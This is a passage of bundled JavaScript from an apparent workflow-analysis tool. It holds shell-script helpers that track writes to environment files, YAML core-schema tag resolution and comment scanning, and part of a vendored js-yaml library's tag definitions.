        return pythonWrites(script, names);
    if (script.shell === "javascript")
        return javascriptWrites(script, names);
    const writes = shellWrites(script, names);
    for (const { shell, start, end } of embeddedPrograms(script)) {
        const text = script.text.slice(start, end);
        if (!mayWriteEnvironmentFiles(text, names))
            continue;
        for (const write of environmentFileWrites(parseScript(text, shell), names))
            writes.push(moved(write, start));
    }
    return writes;
}
function moved(write, by) {
    const move = ({ start, end }) => ({ start: start + by, end: end + by });
    return {
        ...write,
        span: move(write.span),
        targetSpan: move(write.targetSpan),
        // Its offsets are offsets into the inner text.
        command: undefined,
        dynamicSpan: write.dynamicSpan && move(write.dynamicSpan),
    };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/words.js
/** Every part of a word, those inside operands, arithmetic and globs too; not what is inside substitutions. */
function* words_partsOf(parts) {
    for (const part of parts) {
        yield part;
        if (part.kind === "variable")
            yield* words_partsOf(part.operand);
        else if (part.kind === "arithmetic" || part.kind === "glob")
            yield* words_partsOf(part.parts);
    }
}
/** The variables that a word expands, without those inside its substitutions. */
function variablesOf(word) {
    return [...words_partsOf(word.parts)].filter((part) => part.kind === "variable");
}
/** The `${{ }}` that a word holds, without those inside its substitutions. */
function expressionsOf(word) {
    return [...words_partsOf(word.parts)].filter((part) => part.kind === "expression");
}
/** The substitutions of a word, outermost only. */
function substitutionsOf(word) {
    return [...words_partsOf(word.parts)].filter((part) => part.kind === "substitution");
}
const ALWAYS = new Set(["if-test", "loop-test"]);
/** May the script run without running the command? A function's body counts as conditional: it runs when called. */
function isConditional(command) {
    const { place } = command;
    if (place.inFunction !== undefined || place.conditions.some((condition) => !ALWAYS.has(condition)))
        return true;
    return place.nestedIn !== undefined && isConditional(place.nestedIn);
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/index.js









/***/ }),

/***/ 5891:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {

/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
/* harmony export */   G: () => (/* binding */ resolveCore)
/* harmony export */ });
const NULLS = new Set(["", "~", "null", "Null", "NULL"]);
const BOOLEANS = new Map([
    ["true", true],
    ["True", true],
    ["TRUE", true],
    ["false", false],
    ["False", false],
    ["FALSE", false],
]);
const DECIMAL = /^[-+]?(?:\.[0-9]+|[0-9]+(?:\.[0-9]*)?)(?:[eE][-+]?[0-9]+)?$/;
const OCTAL = /^0o[0-7]+$/;
const HEXADECIMAL = /^0x[0-9a-fA-F]+$/;
const INFINITY = /^([-+]?)\.(?:inf|Inf|INF)$/;
const NAN = /^\.(?:nan|NaN|NAN)$/;
/** Tag resolution of the YAML 1.2.2 core schema, section 10.3.2: `yes`, `on` and `0b1` stay strings. */
function resolveCore(text) {
    if (NULLS.has(text))
        return null;
    const boolean = BOOLEANS.get(text);
    if (boolean !== undefined)
        return boolean;
    const first = text.charCodeAt(0);
    const mayBeNumber = (first >= 48 && first <= 57) || first === 43 || first === 45 || first === 46;
    return mayBeNumber ? resolveNumber(text) : text;
}
function resolveNumber(text) {
    if (DECIMAL.test(text) || OCTAL.test(text) || HEXADECIMAL.test(text))
        return Number(text);
    const infinity = INFINITY.exec(text);
    if (infinity)
        return infinity[1] === "-" ? Number.NEGATIVE_INFINITY : Number.POSITIVE_INFINITY;
    return NAN.test(text) ? Number.NaN : text;
}


/***/ }),

/***/ 8165:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {

/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
/* harmony export */   m: () => (/* binding */ LazyDocument)
/* harmony export */ });
/* harmony import */ var _gaps_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(4937);

/** A document whose comments are looked for when they are first asked for: most runs never ask. */
class LazyDocument {
    file;
    root;
    problems;
    scalars;
    #comments;
    constructor(file, root, problems, 
    /** All scalars, in order: no comment stands inside them. */
    scalars) {
        this.file = file;
        this.root = root;
        this.problems = problems;
        this.scalars = scalars;
    }
    comments() {
        this.#comments ??= this.file.text.includes("#") ? findComments(this.file, this.scalars()) : [];
        return this.#comments;
    }
}
function findComments(file, scalars) {
    const comments = [];
    let at = 0;
    const addUntil = (end) => {
        for (const span of (0,_gaps_js__WEBPACK_IMPORTED_MODULE_0__/* .commentsBetween */ .X)(file.text, at, end))
            comments.push(describe(file, span));
    };
    for (const scalar of scalars) {
        // One may stand behind a block scalar's header.
        addUntil(scalar.isBlock ? scalar.contentStart : scalar.start);
        at = Math.max(at, scalar.end);
    }
    addUntil(file.text.length);
    return comments;
}
function describe(file, span) {
    const { line } = file.position(span.start);
    const before = file.text.slice(file.lineStarts[line - 1], span.start);
    return { ...span, text: file.text.slice(span.start + 1, span.end), alone: before.trim() === "" };
}


/***/ }),

/***/ 4937:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {

/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
/* harmony export */   H: () => (/* binding */ findIndicator),
/* harmony export */   X: () => (/* binding */ commentsBetween)
/* harmony export */ });
/**
 * What stands between two tokens is white space, comments and indicators. These scanners read such a gap; they are
 * never given the inside of a scalar.
 */
/** The first of `wanted` between `from` and `to` outside comments, or -1. */
function findIndicator(text, from, to, wanted) {
    for (let i = from; i < to; i++) {
        const char = text[i];
        if (char === "#" && startsComment(text, i))
            i = endOfLine(text, i, to);
        else if (wanted.includes(char))
            return i;
    }
    return -1;
}
/** Comments between `from` and `to`: a `#` at the line's start or after white space (YAML 1.2.2, section 6.6). */
function commentsBetween(text, from, to) {
    const comments = [];
    for (let i = text.indexOf("#", from); i !== -1 && i < to; i = text.indexOf("#", i)) {
        if (startsComment(text, i)) {
            const end = endOfLine(text, i, to);
            comments.push({ start: i, end });
            i = end;
        }
        else {
            i++;
        }
    }
    return comments;
}
function startsComment(text, at) {
    if (at === 0)
        return true;
    const before = text.charCodeAt(at - 1);
    return before === 32 || before === 9 || before === 10 || before === 13 || before === 0xfeff;
}
function endOfLine(text, from, to) {
    let i = from;
    while (i < to && text.charCodeAt(i) !== 10 && text.charCodeAt(i) !== 13)
        i++;
    return i;
}


/***/ }),

/***/ 8176:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {


// EXPORTS
__nccwpck_require__.d(__webpack_exports__, {
  gZ: () => (/* reexport */ limits/* MAX_FILE_BYTES */.gZ),
  _M: () => (/* reexport */ nodes/* YamlMap */._M),
  Q0: () => (/* reexport */ nodes/* YamlScalar */.Q0),
  nJ: () => (/* reexport */ nodes/* YamlSeq */.nJ),
  Gh: () => (/* reexport */ aliasCount),
  rf: () => (/* reexport */ isAnchored),
  hN: () => (/* reexport */ parseYaml)
});

// UNUSED EXPORTS: resolveCore

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/yaml/aliases.js
/** How many aliases give a scalar's text to other places; 0 where it has no anchor. */
function aliasCount({ file: { text }, start }) {
    const anchor = /&([^\s,[\]{}]+)[ \t]+$/.exec(text.slice(Math.max(0, start - 200), start))?.[1];
    if (anchor === undefined)
        return 0;
    return text.split(/[\s,[\]{}]+/).filter((word) => word === `*${anchor}`).length;
}
/** Does an anchor stand before it? */
function isAnchored({ file: { text }, start }) {
    return /&[^\s,[\]{}]+[ \t]+$/.test(text.slice(Math.max(0, start - 200), start));
}

// EXTERNAL MODULE: ./packages/workflow-analysis/lib/yaml/core-schema.js
var core_schema = __nccwpck_require__(5891);
// EXTERNAL MODULE: ./packages/workflow-analysis/lib/yaml/limits.js
var limits = __nccwpck_require__(8232);
// EXTERNAL MODULE: ./packages/workflow-analysis/lib/yaml/nodes.js + 1 modules
var nodes = __nccwpck_require__(5655);
;// CONCATENATED MODULE: ./packages/workflow-analysis/node_modules/js-yaml/dist/js-yaml.mjs
/*! js-yaml 5.5.0 https://github.com/nodeca/js-yaml @license MIT */
//#region src/tag.ts
/**
* Returned by a scalar resolver when the source does not match its tag.
*
* @category Tags
*/
var NOT_RESOLVED = Symbol("NOT_RESOLVED");
/**
* Create a normalized scalar tag definition.
*
* @category Tags
*/
function defineScalarTag(tagName, options) {
	return {
		tagName,
		nodeKind: "scalar",
		implicit: options.implicit ?? false,
		matchByTagPrefix: options.matchByTagPrefix ?? false,
		implicitFirstChars: options.implicitFirstChars ?? null,
		resolve: options.resolve,
		identify: options.identify,
		represent: options.represent ?? ((data) => String(data)),
		representTagName: options.representTagName ?? (() => tagName)
	};
}
/**
* Create a normalized sequence tag definition.
*
* @category Tags
*/
function defineSequenceTag(tagName, options) {
	const carrierIsResult = options.finalize === void 0;
	return {
		tagName,
		nodeKind: "sequence",
		implicit: false,
		matchByTagPrefix: options.matchByTagPrefix ?? false,
		create: options.create,
		addItem: options.addItem,
		finalize: options.finalize ?? ((carrier) => carrier),
		carrierIsResult,
		identify: options.identify,
		represent: options.represent ?? ((data) => data),
		representTagName: options.representTagName ?? (() => tagName)
	};
}
/**
* Create a normalized mapping tag definition.
*
* @category Tags
*/
function defineMappingTag(tagName, options) {
	const carrierIsResult = options.finalize === void 0;
	return {
		tagName,
		nodeKind: "mapping",
		implicit: false,
		matchByTagPrefix: options.matchByTagPrefix ?? false,
		create: options.create,
		addPair: options.addPair,
		has: options.has,
		keys: options.keys,
		get: options.get,
		finalize: options.finalize ?? ((carrier) => carrier),
		carrierIsResult,
		identify: options.identify,
		represent: options.represent ?? ((data) => data),
		representTagName: options.representTagName ?? (() => tagName)
	};
}
//#endregion
//#region src/tag/scalar/str.ts
/** @category Tags */
var strTag = defineScalarTag("tag:yaml.org,2002:str", {
	resolve: (source) => source,
	identify: (data) => typeof data === "string"
});
//#endregion
//#region src/tag/scalar/null_core.ts
var NULL_VALUES$1 = [
	"",
	"~",
	"null",
	"Null",
	"NULL"
];
/** @category Tags */
var nullCoreTag = defineScalarTag("tag:yaml.org,2002:null", {
	implicit: true,
	implicitFirstChars: [
		"",
		"~",
		"n",
		"N"
	],
	resolve: (source) => {
		if (NULL_VALUES$1.indexOf(source) !== -1) return null;
		return NOT_RESOLVED;
	},
	identify: (object) => object === null,
	represent: () => "null"
});
//#endregion
//#region src/tag/scalar/null_json.ts
/** @category Tags */
var nullJsonTag = defineScalarTag("tag:yaml.org,2002:null", {
	implicit: true,
	implicitFirstChars: ["n"],
	resolve: (source, isExplicit) => {
		if (source === "null" || isExplicit && source === "") return null;
		return NOT_RESOLVED;
	},
	identify: (object) => object === null,
	represent: () => "null"
});
//#endregion
//#region src/tag/scalar/null_yaml11.ts
var NULL_VALUES = [
	"",
	"~",
	"null",
	"Null",
	"NULL"
];
/** @category Tags */
var nullYaml11Tag = defineScalarTag("tag:yaml.org,2002:null", {
	implicit: true,
	implicitFirstChars: [
		"",
		"~",
		"n",
		"N"
	],
	resolve: (source) => {
		if (NULL_VALUES.indexOf(source) !== -1) return null;
		return NOT_RESOLVED;
	},
	identify: (object) => object === null,
	represent: () => "null"
});
//#endregion
//#region src/tag/scalar/bool_core.ts
var TRUE_VALUES$2 = [
	"true",
	"True",
	"TRUE"
];
var FALSE_VALUES$2 = [
	"false",
	"False",
	"FALSE"
];
/** @category Tags */
var boolCoreTag = defineScalarTag("tag:yaml.org,2002:bool", {
	implicit: true,
	implicitFirstChars: [
		"t",
		"T",
		"f",
		"F"
	],
	resolve: (source) => {
		if (TRUE_VALUES$2.indexOf(source) !== -1) return true;
		if (FALSE_VALUES$2.indexOf(source) !== -1) return false;
		return NOT_RESOLVED;
	},
	identify: (object) => Object.prototype.toString.call(object) === "[object Boolean]",
	represent: (object) => object ? "true" : "false"
});
//#endregion
//#region src/tag/scalar/bool_json.ts
var TRUE_VALUES$1 = ["true"];
var FALSE_VALUES$1 = ["false"];
/** @category Tags */
var boolJsonTag = defineScalarTag("tag:yaml.org,2002:bool", {
	implicit: true,
	implicitFirstChars: ["t", "f"],
	resolve: (source) => {
		if (TRUE_VALUES$1.indexOf(source) !== -1) return true;
		if (FALSE_VALUES$1.indexOf(source) !== -1) return false;
		return NOT_RESOLVED;
	},
	identify: (object) => Object.prototype.toString.call(object) === "[object Boolean]",
	represent: (object) => object ? "true" : "false"
});
//#endregion
//#region src/tag/scalar/bool_yaml11.ts
var TRUE_VALUES = [
	"true",
	"True",
	"TRUE",
	"y",
	"Y",
	"yes",
	"Yes",
	"YES",
	"on",
	"On",
	"ON"
];
var FALSE_VALUES = [
	"false",
	"False",
	"FALSE",
	"n",
	"N",
	"no",
	"No",
	"NO",
	"off",
	"Off",
	"OFF"
];
/** @category Tags */
var boolYaml11Tag = defineScalarTag("tag:yaml.org,2002:bool", {
	implicit: true,
	implicitFirstChars: [
		"y",
		"Y",
		"n",
		"N",
		"t",
		"T",
		"f",
		"F",
		"o",
		"O"
	],
	resolve: (source) => {
		if (TRUE_VALUES.indexOf(source) !== -1) return true;
		if (FALSE_VALUES.indexOf(source) !== -1) return false;
		return NOT_RESOLVED;
	},
	identify: (object) => Object.prototype.toString.call(object) === "[object Boolean]",
	represent: (object) => object ? "true" : "false"
});
//#endregion
//#region src/tag/scalar/int_core.ts
var YAML_INTEGER_IMPLICIT_PATTERN$1 = /* @__PURE__ */ new RegExp("^(?:0o[0-7]+|0x[0-9a-fA-F]+|[-+]?[0-9]+)$");
var YAML_INTEGER_EXPLICIT_PATTERN$1 = /* @__PURE__ */ new RegExp("^(?:[-+]?0b[0-1]+|[-+]?0o[0-7]+|[-+]?0x[0-9a-fA-F]+|[-+]?[0-9]+)$");
function parseYamlInteger$2(source) {
	let value = source;
	let sign = 1;
	if (value[0] === "-" || value[0] === "+") {
		if (value[0] === "-") sign = -1;
		value = value.slice(1);
	}
	if (value.startsWith("0b")) return sign * parseInt(value.slice(2), 2);
	if (value.startsWith("0o")) return sign * parseInt(value.slice(2), 8);
	if (value.startsWith("0x")) return sign * parseInt(value.slice(2), 16);
	return sign * parseInt(value, 10);
}
function resolveYamlInteger$2(source, isExplicit) {
	if (isExplicit) {
		if (!YAML_INTEGER_EXPLICIT_PATTERN$1.test(source)) return NOT_RESOLVED;
	} else if (!YAML_INTEGER_IMPLICIT_PATTERN$1.test(source)) return NOT_RESOLVED;
	const result = parseYamlInteger$2(source);
	return Number.isFinite(result) ? result : NOT_RESOLVED;
}
/** @category Tags */
var intCoreTag = defineScalarTag("tag:yaml.org,2002:int", {
	implicit: true,
	implicitFirstChars: [
		"-",
		"+",
		..."0123456789"
	],
	resolve: resolveYamlInteger$2,
	identify: (object) => Number.isInteger(object) && !Object.is(object, -0) && object.toString(10).indexOf("e") < 0,
	represent: (object) => object.toString(10)
});
//#endregion
//#region src/tag/scalar/int_json.ts
var YAML_INTEGER_IMPLICIT_PATTERN = /* @__PURE__ */ new RegExp("^-?(?:0|[1-9][0-9]*)$");
var YAML_INTEGER_EXPLICIT_PATTERN = /* @__PURE__ */ new RegExp("^(?:[-+]?0b[0-1]+|[-+]?0o[0-7]+|[-+]?0x[0-9a-fA-F]+|[-+]?[0-9]+)$");
function parseYamlInteger$1(source) {
	let value = source;
	let sign = 1;
	if (value[0] === "-" || value[0] === "+") {
		if (value[0] === "-") sign = -1;
		value = value.slice(1);
	}
	if (value.startsWith("0b")) return sign * parseInt(value.slice(2), 2);
	if (value.startsWith("0o")) return sign * parseInt(value.slice(2), 8);
	if (value.startsWith("0x")) return sign * parseInt(value.slice(2), 16);
	return sign * parseInt(value, 10);
}
function resolveYamlInteger$1(source, isExplicit) {
	if (isExplicit) {
		if (!YAML_INTEGER_EXPLICIT_PATTERN.test(source)) return NOT_RESOLVED;
	} else if (!YAML_INTEGER_IMPLICIT_PATTERN.test(source)) return NOT_RESOLVED;
	const result = parseYamlInteger$1(source);
	return Number.isFinite(result) ? result : NOT_RESOLVED;
}
/** @category Tags */
var intJsonTag = defineScalarTag("tag:yaml.org,2002:int", {
	implicit: true,
	implicitFirstChars: ["-", ..."0123456789"],
	resolve: resolveYamlInteger$1,
	identify: (object) => Number.isInteger(object) && !Object.is(object, -0) && object.toString(10).indexOf("e") < 0,
	represent: (object) => object.toString(10)
});
//#endregion
//#region src/tag/scalar/int_yaml11.ts
var YAML_INTEGER_PATTERN = /* @__PURE__ */ new RegExp("^(?:[-+]?0b[0-1_]+|[-+]?0[0-7_]+|[-+]?0x[0-9a-fA-F_]+|[-+]?[0-9][0-9_]*(?::[0-5]?[0-9])+|[-+]?(?:0|[1-9][0-9_]*))$");
function parseYamlInteger(source) {
	let value = source.replace(/_/g, "");
	let sign = 1;
	if (value[0] === "-" || value[0] === "+") {
		if (value[0] === "-") sign = -1;
		value = value.slice(1);
	}
	if (value.startsWith("0b")) return sign * parseInt(value.slice(2), 2);
	if (value.startsWith("0x")) return sign * parseInt(value.slice(2), 16);
	if (value.includes(":")) {
		let result = 0;
		for (const part of value.split(":")) result = result * 60 + Number(part);
		return sign * result;
	}
	if (value !== "0" && value[0] === "0") return sign * parseInt(value, 8);
	return sign * parseInt(value, 10);
}
function resolveYamlInteger(source) {
	if (!YAML_INTEGER_PATTERN.test(source)) return NOT_RESOLVED;
	const result = parseYamlInteger(source);
	return Number.isFinite(result) ? result : NOT_RESOLVED;
}
/** @category Tags */
var intYaml11Tag = defineScalarTag("tag:yaml.org,2002:int", {
	implicit: true,
	implicitFirstChars: [
		"-",
		"+",
		..."0123456789"
	],
	resolve: resolveYamlInteger,
	identify: (object) => Number.isInteger(object) && !Object.is(object, -0) && object.toString(10).indexOf("e") < 0,
	represent: (object) => object.toString(10)
});
//#endregion
//#region src/tag/scalar/float_core.ts
var YAML_FLOAT_PATTERN$1 = /* @__PURE__ */ new RegExp("^(?:[-+]?[0-9]+(?:\\.[0-9]*)?(?:[eE][-+]?[0-9]+)?|[-+]?\\.[0-9]+(?:[eE][-+]?[0-9]+)?|[-+]?\\.(?:inf|Inf|INF)|\\.(?:nan|NaN|NAN))$");
var YAML_FLOAT_SPECIAL_PATTERN$1 = /* @__PURE__ */ new RegExp("^(?:[-+]?\\.(?:inf|Inf|INF)|\\.(?:nan|NaN|NAN))$");
function resolveYamlFloat$2(source) {
	if (!YAML_FLOAT_PATTERN$1.test(source)) return NOT_RESOLVED;
	let value = source.toLowerCase();
	const sign = value[0] === "-" ? -1 : 1;
	if ("+-".includes(value[0])) value = value.slice(1);
	if (value === ".inf") return sign === 1 ? Number.POSITIVE_INFINITY : Number.NEGATIVE_INFINITY;
	if (value === ".nan") return NaN;
	const result = sign * parseFloat(value);
	if (Number.isFinite(result) || YAML_FLOAT_SPECIAL_PATTERN$1.test(source)) return result;
	return NOT_RESOLVED;
}
function representYamlFloat$2(object) {
	if (isNaN(object)) return ".nan";
	if (object === Number.POSITIVE_INFINITY) return ".inf";
	if (object === Number.NEGATIVE_INFINITY) return "-.inf";
	if (Object.is(object, -0)) return "-0.0";
	const result = object.toString(10);
	return /^[-+]?[0-9]+e/.test(result) ? result.replace("e", ".e") : result;
}
/** @category Tags */
var floatCoreTag = defineScalarTag("tag:yaml.org,2002:float", {
	implicit: true,
	implicitFirstChars: [
		"-",
		"+",
		".",
		..."0123456789"
	],
	resolve: resolveYamlFloat$2,
	identify: (object) => typeof object === "number" && (!Number.isInteger(object) || Object.is(object, -0) || object.toString(10).indexOf("e") >= 0),
	represent: representYamlFloat$2
});
//#endregion
//#region src/tag/scalar/float_json.ts
var YAML_FLOAT_IMPLICIT_PATTERN = /* @__PURE__ */ new RegExp("^-?(?:0|[1-9][0-9]*)(?:\\.[0-9]*)?(?:[eE][-+]?[0-9]+)?$");
var YAML_FLOAT_EXPLICIT_PATTERN = /* @__PURE__ */ new RegExp("^(?:[-+]?[0-9]+(?:\\.[0-9]*)?(?:[eE][-+]?[0-9]+)?|[-+]?\\.[0-9]+(?:[eE][-+]?[0-9]+)?|[-+]?\\.(?:inf|Inf|INF)|\\.(?:nan|NaN|NAN))$");
function resolveYamlFloat$1(source, isExplicit) {
	if (isExplicit) {
		if (!YAML_FLOAT_EXPLICIT_PATTERN.test(source)) return NOT_RESOLVED;
		let value = source.toLowerCase();
		const sign = value[0] === "-" ? -1 : 1;
		if ("+-".includes(value[0])) value = value.slice(1);
		if (value === ".inf") return sign === 1 ? Number.POSITIVE_INFINITY : Number.NEGATIVE_INFINITY;
		if (value === ".nan") return NaN;
		const result = sign * parseFloat(value);
		return Number.isFinite(result) ? result : NOT_RESOLVED;
	}
	if (!YAML_FLOAT_IMPLICIT_PATTERN.test(source)) return NOT_RESOLVED;
	const result = Number(source);
	if (Number.isFinite(result)) return result;
	return NOT_RESOLVED;
}
function representYamlFloat$1(object) {
	if (isNaN(object)) return ".nan";
	if (object === Number.POSITIVE_INFINITY) return ".inf";
	if (object === Number.NEGATIVE_INFINITY) return "-.inf";
	if (Object.is(object, -0)) return "-0.0";
	const result = object.toString(10);
	return /^[-+]?[0-9]+e/.test(result) ? result.replace("e", ".e") : result;
}
/** @category Tags */
var floatJsonTag = defineScalarTag("tag:yaml.org,2002:float", {
	implicit: true,
	implicitFirstChars: ["-", ..."0123456789"],
	resolve: resolveYamlFloat$1,
	identify: (object) => typeof object === "number" && (!Number.isInteger(object) || Object.is(object, -0) || object.toString(10).indexOf("e") >= 0),
	represent: representYamlFloat$1
});
//#endregion
//#region src/tag/scalar/float_yaml11.ts
var YAML_FLOAT_PATTERN = /* @__PURE__ */ new RegExp("^(?:[-+]?(?:(?:[0-9][0-9_]*)?\\.[0-9_]*)(?:[eE][-+][0-9]+)?|[-+]?[0-9][0-9_]*(?::[0-5]?[0-9])+\\.[0-9_]*|[-+]?\\.(?:inf|Inf|INF)|\\.(?:nan|NaN|NAN))$");
var YAML_FLOAT_SPECIAL_PATTERN = /* @__PURE__ */ new RegExp("^(?:[-+]?\\.(?:inf|Inf|INF)|\\.(?:nan|NaN|NAN))$");
function resolveYamlFloat(source) {
	if (!YAML_FLOAT_PATTERN.test(source)) return NOT_RESOLVED;
	let value = source.toLowerCase().replace(/_/g, "");
	const sign = value[0] === "-" ? -1 : 1;
	if ("+-".includes(value[0])) value = value.slice(1);
	if (value === ".inf") return sign === 1 ? Number.POSITIVE_INFINITY : Number.NEGATIVE_INFINITY;
	if (value === ".nan") return NaN;
	let result = 0;
	if (value.includes(":")) {
		for (const part of value.split(":")) result = result * 60 + Number(part);
		result *= sign;
	} else result = sign * parseFloat(value);
	if (Number.isFinite(result) || YAML_FLOAT_SPECIAL_PATTERN.test(source)) return result;
	return NOT_RESOLVED;
}
function representYamlFloat(object) {
	if (isNaN(object)) return ".nan";
	if (object === Number.POSITIVE_INFINITY) return ".inf";
	if (object === Number.NEGATIVE_INFINITY) return "-.inf";
	if (Object.is(object, -0)) return "-0.0";
	const result = object.toString(10);
	return /^[-+]?[0-9]+e/.test(result) ? result.replace("e", ".e") : result;
}
/** @category Tags */
var floatYaml11Tag = defineScalarTag("tag:yaml.org,2002:float", {
	implicit: true,
	implicitFirstChars: [
		"-",
		"+",
		".",
		..."0123456789"
	],
	resolve: resolveYamlFloat,
	identify: (object) => typeof object === "number" && (!Number.isInteger(object) || Object.is(object, -0) || object.toString(10).indexOf("e") >= 0),
	represent: representYamlFloat
});
//#endregion
//#region src/tag/scalar/merge.ts
/**
* Enables merge keys in {@link CORE_SCHEMA} when added with
* {@link Schema.withTags}.
*
* @category Tags
*/
var mergeTag = defineScalarTag("tag:yaml.org,2002:merge", {
	implicit: true,
	implicitFirstChars: ["<"],
	resolve: (source, isExplicit) => {
		if (source === "<<" || isExplicit && source === "") return "<<";
		return NOT_RESOLVED;
	},
	identify: () => false
});
//#endregion
//#region src/tag/scalar/binary.ts
var BASE64_PATTERN = /^[A-Za-z0-9+/]*={0,2}$/;
function resolveYamlBinary(source) {
	const input = source.replace(/\s/g, "");
	if (input.length % 4 !== 0 || !BASE64_PATTERN.test(input)) return NOT_RESOLVED;
	const binary = atob(input);
	const result = new Uint8Array(binary.length);
	for (let index = 0; index < binary.length; index++) result[index] = binary.charCodeAt(index);
	return result;
}
function representYamlBinary(object) {
	let binary = "";
	for (let index = 0; index < object.length; index++) binary += String.fromCharCode(object[index]);
	return btoa(binary);
}
/**
* The `!!binary` tag, represented as a `Uint8Array`.
*
* @category Tags
*/
var binaryTag = defineScalarTag("tag:yaml.org,2002:binary", {
	resolve: resolveYamlBinary,
	identify: (object) => Object.prototype.toString.call(object) === "[object Uint8Array]",
	represent: representYamlBinary
});
//#endregion
//#region src/tag/scalar/timestamp.ts
var YAML_DATE_REGEXP = /* @__PURE__ */ new RegExp("^([0-9][0-9][0-9][0-9])-([0-9][0-9])-([0-9][0-9])$");
var YAML_TIMESTAMP_REGEXP = /* @__PURE__ */ new RegExp("^([0-9][0-9][0-9][0-9])-([0-9][0-9]?)-([0-9][0-9]?)(?:[Tt]|[ \\t]+)([0-9][0-9]?):([0-9][0-9]):([0-9][0-9])(?:\\.([0-9]*))?(?:[ \\t]*(Z|([-+])([0-9][0-9]?)(?::([0-9][0-9]))?))?$");
function makeUtcDate(year, month, day, hour = 0, minute = 0, second = 0, fraction = 0) {
	const date = new Date(Date.UTC(year, month, day, hour, minute, second, fraction));
	date.setUTCFullYear(year, month, day);
	return date;
}
function resolveYamlTimestamp(source) {
	let match = YAML_DATE_REGEXP.exec(source);
	if (match === null) match = YAML_TIMESTAMP_REGEXP.exec(source);
	if (match === null) return NOT_RESOLVED;
	const year = +match[1];
	const month = +match[2] - 1;
	const day = +match[3];
	if (!match[4]) {
		const date = makeUtcDate(year, month, day);
		if (date.getUTCFullYear() !== year || date.getUTCMonth() !== month || date.getUTCDate() !== day) return NOT_RESOLVED;
		return date;
	}
	const hour = +match[4];
	const minute = +match[5];
	const second = +match[6];
	let fraction = 0;
	if (hour > 23 || minute > 59 || second > 59) return NOT_RESOLVED;
	if (match[7]) {
		let value = match[7].slice(0, 3);
		while (value.length < 3) value += "0";
		fraction = +value;
	}
	const date = makeUtcDate(year, month, day, hour, minute, second, fraction);
	if (date.getUTCFullYear() !== year || date.getUTCMonth() !== month || date.getUTCDate() !== day) return NOT_RESOLVED;
	if (match[9]) {
		const offsetHour = +match[10];
		const offsetMinute = +(match[11] || 0);
		if (offsetHour > 23 || offsetMinute > 59) return NOT_RESOLVED;
		const offset = (offsetHour * 60 + offsetMinute) * 6e4;
		date.setTime(date.getTime() - (match[9] === "-" ? -offset : offset));
	}
	return date;
}
/**
* The YAML 1.1 `!!timestamp` tag, represented as a JavaScript `Date`.
*
* @category Tags
*/
var timestampTag = defineScalarTag("tag:yaml.org,2002:timestamp", {
	implicit: true,
	implicitFirstChars: [..."0123456789"],
	resolve: resolveYamlTimestamp,
	identify: (object) => object instanceof Date,
	represent: (object) => object.toISOString()
});
//#endregion
//#region src/tag/sequence/seq.ts
/** @category Tags */
var seqTag = defineSequenceTag("tag:yaml.org,2002:seq", {
	create: () => [],
	addItem: (container, item) => {
		container.push(item);
	},
	identify: Array.isArray
});
//#endregion
//#region src/common/object.ts
function isPlainObject(data) {
	if (data === null || typeof data !== "object" || Array.isArray(data)) return false;
	const prototype = Object.getPrototypeOf(data);
	return prototype === null || prototype === Object.prototype;
}
function pick(object, keys) {
	const result = {};
	for (const key of keys) if (object[key] !== void 0) result[key] = object[key];
	return result;
}
//#endregion
//#region src/tag/sequence/omap.ts
/**
* Provided only for YAML 1.1 compatibility and supported by the loader only.
* JavaScript has no dedicated class to represent this type, so it cannot be
* identified and dumped.
*
* ```yaml
* !!omap
*   - one: 1
*   - two: 2
* ```
*
* is loaded as
*
* ```javascript
* [
*   { one: 1 },
*   { two: 2 }
* ]
* ```
*
* @category Tags
*/
var omapTag = defineSequenceTag("tag:yaml.org,2002:omap", {
	create: () => ({
		list: [],
		seen: /* @__PURE__ */ new Set()
	}),
	addItem: (carrier, item) => {
		let key;
		if (item instanceof Map) {
			if (item.size !== 1) return "cannot resolve an ordered map item";
			key = item.keys().next().value;
		} else if (isPlainObject(item)) {
			const itemKeys = Object.keys(item);
			if (itemKeys.length !== 1) return "cannot resolve an ordered map item";
			key = itemKeys[0];
		} else return "cannot resolve an ordered map item";
		if (carrier.seen.has(key)) return "duplicate key in ordered map";
		carrier.seen.add(key);
		carrier.list.push(item);
		return "";
	},
	finalize: (carrier) => carrier.list,
	identify: () => false
});
//#endregion
//#region src/tag/sequence/pairs.ts
/**
* Provided only for YAML 1.1 compatibility and supported by the loader only.
* JavaScript has no dedicated class to represent this type, so it cannot be
* identified and dumped.
*
* ```yaml
* !!pairs
*   - one: 1
*   - two: 2
* ```
*
* is loaded as
*
* ```javascript
* [
*   ['one', 1],
*   ['two', 2]
* ]
* ```
*
* @category Tags
*/
var pairsTag = defineSequenceTag("tag:yaml.org,2002:pairs", {
	create: () => [],
	addItem: (container, item) => {
		if (item instanceof Map) {
			if (item.size !== 1) return "cannot resolve a pairs item";
			container.push(item.entries().next().value);
			return "";
		}
		if (Object.prototype.toString.call(item) !== "[object Object]") return "cannot resolve a pairs item";
		const object = item;
		const keys = Object.keys(object);
		if (keys.length !== 1) return "cannot resolve a pairs item";
		container.push([keys[0], object[keys[0]]]);
		return "";
	},
	identify: () => false
});
//#endregion
//#region src/tag/mapping/map.ts
/**
* This is the default mapping implementation. It uses `{}` objects and has only
* partial functionality due to language limitations. This choice was made
* because users expect to get JavaScript objects, and it was left unchanged to
* avoid too many breaking changes in the v5 release.
*
* Side effects:
*
* - `Object.hasOwn()` checks or `for...of` loops are required for safe use (to
*   avoid falling through to prototypes).
* - Only scalar string keys are supported properly.
* - Other scalar keys, such as `null` and numbers, are converted to strings.
*   This is historical behaviour, and it can cause side effects such as
*   problems with `!!merge`.
*
* Note that non-string scalar keys may be deprecated in future versions.
*
* Ideally, use {@link realMapTag} instead.
*
* @category Tags
*/
var mapTag = defineMappingTag("tag:yaml.org,2002:map", {
	create: () => ({}),
	identify: isPlainObject,
	represent: (o) => {
		const map = /* @__PURE__ */ new Map();
